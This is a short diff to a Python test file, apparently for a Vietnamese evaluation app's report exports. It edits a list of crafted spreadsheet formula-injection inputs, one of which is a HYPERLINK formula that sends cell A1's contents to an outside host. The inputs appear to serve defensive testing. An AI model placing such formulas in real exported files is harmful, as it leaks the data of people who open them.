@@ -15,7 +15,7 @@ from danhgia.orgs.models import Unit
 from danhgia.people.models import Person
 from tests.reports.conftest import MIT
 
-CRAFTED = ['=HYPERLINK("http://example.com/?x="&A1,"Bấm")', "+1", "-1", "@SUM(A1)", "\t=1+1", "\r=1+1", "=1+1"]
+CRAFTED = ['=HYPERLINK("http://x.vn/?"&A1,"Bấm")', "+1", "-1", "@SUM(A1)", "\t=1+1", "\r=1+1", "=1+1"]
 
 
 @pytest.fixture
